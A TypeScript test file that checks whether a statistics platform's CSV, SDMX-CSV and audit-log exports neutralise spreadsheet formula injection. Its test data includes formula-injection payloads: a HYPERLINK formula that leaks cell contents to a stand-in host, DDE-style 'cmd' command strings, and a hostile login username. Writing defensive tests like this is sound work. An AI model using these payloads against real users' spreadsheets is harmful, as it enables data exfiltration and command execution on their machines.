/**
 * Formula injection (issue 12, point 5): text that a spreadsheet would run — = + - @, a tab or a carriage return at
 * the start of a cell — leaves the platform neutralised in every CSV it writes: the figures export, SDMX-CSV and the
 * audit log (which anyone fills through a failed sign-in's user name). Each export is opened as a spreadsheet opens
 * it (SheetJS reads a CSV cell beginning with = as a formula), and must hold no formula; negative numbers stay
 * numbers; and the export still imports back unchanged.
 */
import type { FastifyInstance } from 'fastify';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import XLSX from 'xlsx';
import type { Database } from '../src/db/client';
import { buildApp } from '../src/server/app';
import { SYSTEM } from '../src/services/access/audit';
import { importObservations } from '../src/services/import/importObservations';
import { prepare } from '../src/services/bootstrap';
import { drivers } from './support/databases';
import { csvText } from './support/badFiles';
import { plansDir, regionsDir, root } from './support/paths';
import { signIn } from './support/session';

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1'];

/** Every cell of the first sheet as a spreadsheet reads the file: value and, if it has one, the formula. */
function cells(csv: string): Array<{ ref: string; v: unknown; f?: string }> {
  const wb = XLSX.read(csv.replace(/^\uFEFF/, ''), { type: 'string', raw: false });
  const ws = wb.Sheets[wb.SheetNames[0] ?? ''] ?? {};
  return Object.entries(ws)
    .filter(([k]) => !k.startsWith('!'))
    .map(([ref, c]) => ({ ref, v: (c as XLSX.CellObject).v, ...((c as XLSX.CellObject).f ? { f: (c as XLSX.CellObject).f } : {}) }));
}

describe.each(drivers)('exports that a spreadsheet opens safely on $name', ({ open }) => {
  let database: Database;
  let app: FastifyInstance;
  beforeAll(async () => {
    database = await open();
    await prepare(database, { regionsDir, plansDir, catalogueDir: path.join(root, 'catalogue') });
    app = await buildApp(database);
    const dir = await mkdtemp(path.join(tmpdir(), 'pm-inject-'));
    const file = path.join(dir, 'hostile.csv');
    const rows = HOSTILE.map((h, i) => ['RETAIL', '深圳市', String(2000 + i), i === 0 ? '-12.5' : String(100 + i), '亿元', h, `${2001 + i}-02-01`, h, h]);
    await writeFile(file, csvText([['指标代码', '地区', '期间', '数值', '单位', '来源', '发布日期', '原文', '备注'], ...rows]));
    const report = await importObservations(database, { file, audit: SYSTEM });
    expect(report.errors).toEqual([]);
    expect(report.committed).toBe(true);
  });
  afterAll(async () => {
    await app.close();
    await database.close();
  });

  /** No formula, and no text cell that another spreadsheet (Excel reads + - @ too) could take for one. */
  const noFormula = (csv: string) => {
    const read = cells(csv);
    expect(read.filter((c) => c.f !== undefined)).toEqual([]);
    expect(read.filter((c) => typeof c.v === 'string' && /^[=+\-@\t\r]/.test(c.v))).toEqual([]);
  };

  it('neutralises the figures CSV, keeps negative numbers numbers, and imports back unchanged', async () => {
    const res = await app.inject({ method: 'GET', url: '/api/observations/export?format=csv&indicator=RETAIL&from=2000&to=2005' });
    expect(res.statusCode).toBe(200);
    noFormula(res.body);
    const read = cells(res.body);
    expect(read.some((c) => c.v === `'${HOSTILE[0]}`)).toBe(true);
    expect(read.some((c) => c.v === `'${HOSTILE[1]}`)).toBe(true);
    expect(read.some((c) => c.v === -12.5)).toBe(true);
    const writer = await signIn(app, database, 'inject-writer', 'statistician');
    const boundary = 'b0undary';
    const payload = `--${boundary}\r\nContent-Disposition: form-data; name="dryRun"\r\n\r\ntrue\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="back.csv"\r\nContent-Type: text/csv\r\n\r\n${res.body}\r\n--${boundary}--\r\n`;
    const back = await app.inject({ method: 'POST', url: '/api/observations/import', headers: { ...writer, 'content-type': `multipart/form-data; boundary=${boundary}` }, payload });
    expect(back.json()).toMatchObject({ errors: [], counts: { new: 0, revision: 0, unchanged: HOSTILE.length, rejected: 0 } });
  });

  it('neutralises SDMX-CSV', async () => {
    const res = await app.inject({ method: 'GET', url: '/api/observations/export?format=sdmx&indicator=RETAIL&from=2000&to=2005' });
    noFormula(res.body);
    expect(cells(res.body).some((c) => c.v === `'${HOSTILE[0]}`)).toBe(true);
  });

  it('neutralises the audit CSV, filled by anyone through a failed sign-in', async () => {
    const failed = await app.inject({ method: 'POST', url: '/api/auth/login', payload: { username: '=HYPERLINK("http://evil.example","x")', password: 'whatever-it-is' } });
    expect(failed.statusCode).toBe(401);
    const admin = await signIn(app, database, 'inject-admin', 'admin');
    const res = await app.inject({ method: 'GET', url: '/api/audit?format=csv&limit=1000', headers: admin });
    noFormula(res.body);
    expect(cells(res.body).some((c) => c.v === `'=HYPERLINK("http://evil.example","x")`)).toBe(true);
  });
});
